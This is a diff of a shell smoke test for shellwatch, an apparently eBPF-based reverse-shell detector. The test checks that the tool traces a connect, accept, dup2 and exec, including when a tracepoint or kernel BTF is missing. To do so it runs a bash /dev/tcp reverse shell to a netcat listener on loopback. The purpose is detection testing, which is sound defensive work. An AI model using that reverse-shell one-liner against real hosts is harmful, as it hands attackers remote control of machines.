@@ -1,13 +1,16 @@
 # smoke.sh: the live smoke test run inside each kernel-matrix guest (by guest/init, with bash), TAP
-# on stdout. The probing unit tests (live part included); then shellwatch itself: `record` while a
-# bash /dev/tcp reverse shell connects to a busybox nc listener on the guest's loopback, and the
-# trace must show the connect and an exec with a socket on stdio. Before `record` exists, the BPF
-# object is only loaded with bpftool. Every wait is bounded (wait_until from tests/lib.sh).
+# on stdout. `shellwatch record` while a bash /dev/tcp reverse shell connects to a busybox nc
+# listener on the guest's loopback: the trace must show the connect, the listener's accept, the dup2
+# onto stdin and the shell's exec with the socket on stdin. Then the degraded paths on this real
+# kernel: a tracefs without one tracepoint (one warning, the rest still works) and no BTF (one error
+# line, exit 1). Last, the probing unit tests. Every wait is bounded (wait_until from tests/lib.sh).
 export SW_ROOT=/ SW_BUILD=/sw SW_BIN=/sw/shellwatch SW_TMP=/tmp/sw
 mkdir -p "$SW_TMP"
 . /lib.sh
 port=4444
 rel=$(uname -r)
+tfs=/sys/kernel/tracing
+fails=0
 
 # run_tap NAME CMD...: a TAP program's lines, renamed "NAME: ..."; a crash counts as a failure.
 run_tap() {
@@ -19,64 +22,111 @@ run_tap() {
 	[ "$rc" -eq 0 ] || grep -q '^not ok' "$SW_TMP/tap.out" || tap_fail "$name exited with $rc"
 }
 
+# expect NAME CMD...: like check, and failures are counted (the trace is shown when any failed).
+expect() {
+	local n=$1
+	shift
+	if "$@"; then tap_ok "$n"; else tap_fail "$n" "failed: $*"; fails=$((fails + 1)); fi
+}
+
 nc_listening() { netstat -ltn 2>/dev/null | grep -q ":$port "; }
 trace_has() { grep -qE "$1" "$SW_TMP/trace"; }
-fails=0
-# check_trace NAME REGEX: a TAP line for a line of the trace; failures are counted for diagnostics.
-check_trace() {
-	if trace_has "$2"; then tap_ok "$1"; else tap_fail "$1" "no trace line matches $2"; fails=$((fails + 1)); fi
-}
+exited() { ! kill -0 "$1" 2>/dev/null; }
 
 # The reverse shell: nc sends two commands, the shell's output comes back over the socket.
 reverse_shell() {
 	(printf 'uname -r\nexit\n' | timeout 30 nc -l -p "$port" >"$SW_TMP/nc.out") &
 	local ncpid=$!
-	wait_until 10 nc_listening || { tap_fail "listener up"; return 1; }
+	wait_until 10 nc_listening || { tap_fail "$1: listener up"; return 1; }
 	timeout 30 bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null
 	wait "$ncpid"
-	check "reverse shell ran (its output came back over the socket)" grep -qF "$rel" "$SW_TMP/nc.out"
+	expect "$1: reverse shell ran (its output came back over the socket)" \
+		grep -qF "$rel" "$SW_TMP/nc.out"
 }
 
-smoke_record() {
+# record_shell NAME: `shellwatch record` around one reverse shell; the trace in $SW_TMP/trace.
+record_shell() {
+	local name=$1 rpid
+	: >"$SW_TMP/trace"
 	"$SW_BIN" record -o "$SW_TMP/trace" 2>"$SW_TMP/record.err" &
-	local rpid=$!
+	rpid=$!
 	# Capture is on once an exec we make shows up in the trace.
-	touch "$SW_TMP/trace"
-	ready() { /bin/true sw-ready-marker; trace_has 'sw-ready-marker' || ! kill -0 "$rpid"; }
-	if ! wait_until 60 ready || ! kill -0 "$rpid" 2>/dev/null; then
-		tap_fail "record started" "$(cat "$SW_TMP/record.err")"
-		return
+	ready() { /bin/true sw-ready-marker; trace_has 'sw-ready-marker' || exited "$rpid"; }
+	if ! wait_until 60 ready || exited "$rpid"; then
+		tap_fail "$name: record started" "$(cat "$SW_TMP/record.err")"
+		return 1
 	fi
-	tap_ok "record started"
-	reverse_shell
+	tap_ok "$name: record started"
+	reverse_shell "$name"
 	wait_until 10 trace_has "^execve .*fd0=sock:inet"
 	kill -INT "$rpid"
-	wait_until 20 eval '! kill -0 '"$rpid"' 2>/dev/null' || kill -9 "$rpid"
-	check "record exited cleanly" eval 'wait '"$rpid"
-	check_trace "trace has the connect to port $port" "^connect .*family=inet addr=127\.0\.0\.1 port=$port => 0"
-	check_trace "trace has the listener's accept" "^accept4? .*comm=nc .*family=inet"
-	check_trace "trace has a dup2 of the socket onto stdin" "^dup2 .*newfd=0 .*sock=1"
-	check_trace "trace has the shell's exec with the socket on stdin" \
-		"^execve .*exe=/bin/bash .*fd0=sock:inet .*peer0=127\.0\.0\.1:$port"
+	wait_until 20 exited "$rpid" || kill -9 "$rpid"
+	expect "$name: record exited cleanly" wait "$rpid"
+}
+
+show_trace() {
 	[ "$fails" = 0 ] && return
 	sed 's/^/# record: /' "$SW_TMP/record.err"
 	grep -E '^(connect|accept|dup|execve)' "$SW_TMP/trace" | tail -n 12 | sed 's/^/# trace: /'
+	fails=0
 }
 
-# Without `record` yet: does the BPF object at least load on this kernel?
-smoke_bpftool() {
-	local obj
-	for obj in /sw/*.bpf.o; do
-		[ -e "$obj" ] || continue
-		check "$(basename "$obj") loads (bpftool prog loadall)" \
-			bpftool prog loadall "$obj" "/sys/fs/bpf/$(basename "$obj" .bpf.o)"
+smoke_full() {
+	record_shell full || return
+	expect "full: shellwatch mounted tracefs itself" grep -q " $tfs tracefs " /proc/mounts
+	expect "full: trace has the connect to port $port" \
+		trace_has "^connect .*family=inet addr=127\.0\.0\.1 port=$port => 0"
+	expect "full: trace has the listener's accept" trace_has "^accept4? .*comm=nc .*family=inet"
+	expect "full: trace has a dup2 of the socket onto stdin" trace_has "^dup2 .*newfd=0 .*sock=1"
+	expect "full: trace has the shell's exec with the socket on stdin" \
+		trace_has "^execve .*exe=/bin/bash .*fd0=sock:inet .*peer0=127\.0\.0\.1:$port"
+	show_trace
+}
+
+# A kernel without the sys_exit_dup2 tracepoint (like arm64): a copy of tracefs's syscall event
+# ids without it, mounted over tracefs. One warning; the shell is still caught, without the dup2.
+smoke_no_dup2() {
+	local d id fake=$SW_TMP/fake-tracefs events=()
+	for d in "$tfs"/events/syscalls/sys_*; do
+		[ "${d##*/}" = sys_exit_dup2 ] || events+=("${d##*/}")
 	done
+	# One mkdir and shell built-ins only: a fork per event takes a minute under TCG.
+	(cd "$SW_TMP" && mkdir -p "${events[@]/#/fake-tracefs/events/syscalls/}")
+	for d in "${events[@]}"; do
+		read -r id <"$tfs/events/syscalls/$d/id" && echo "$id" >"$fake/events/syscalls/$d/id"
+	done
+	mount --bind "$fake" "$tfs" || { tap_fail "no dup2: mount the fake tracefs"; return; }
+	record_shell "no dup2"
+	umount "$tfs"
+	expect "no dup2: one warning line, naming the program and the loss" \
+		test "$(grep -c 'warning' "$SW_TMP/record.err")" = 1
+	expect "no dup2: it says what is missing" grep -qF "exit_dup2 (tracepoint/syscalls/sys_exit_dup2) \
+disabled: this kernel has no tracepoint syscalls/sys_exit_dup2; dup2 redirections" "$SW_TMP/record.err"
+	expect "no dup2: trace has no dup2" eval '! trace_has "^dup2 "'
+	expect "no dup2: trace still has the shell's exec with the socket on stdin" \
+		trace_has "^execve .*exe=/bin/bash .*fd0=sock:inet .*peer0=127\.0\.0\.1:$port"
+	show_trace
+}
+
+# No kernel BTF: shellwatch refuses with one line and exit code 1.
+smoke_no_btf() {
+	local rc
+	mount -t tmpfs none /sys/kernel/btf || { tap_fail "no BTF: hide /sys/kernel/btf"; return; }
+	timeout 30 "$SW_BIN" record -o "$SW_TMP/trace" 2>"$SW_TMP/record.err"
+	rc=$?
+	umount /sys/kernel/btf
+	expect "no BTF: exit code 1" test "$rc" = 1
+	expect "no BTF: one error line saying what to do" eval \
+		'test "$(wc -l <"$SW_TMP/record.err")" = 1 && grep -q "BTF.*CONFIG_DEBUG_INFO_BTF" "$SW_TMP/record.err"'
+	[ "$fails" = 0 ] || sed 's/^/# stderr: /' "$SW_TMP/record.err"
+	fails=0
 }
 
 if [ -x "$SW_BIN" ] && "$SW_BIN" record --help >/dev/null 2>&1; then
-	smoke_record
-elif [ -x /sw/bpftool ]; then
-	echo "# shellwatch record not available: loading the BPF object only"
-	smoke_bpftool
+	smoke_full
+	smoke_no_dup2
+	smoke_no_btf
+else
+	tap_fail "shellwatch record is available in the guest"
 fi
 run_tap probe /sw/test_probe
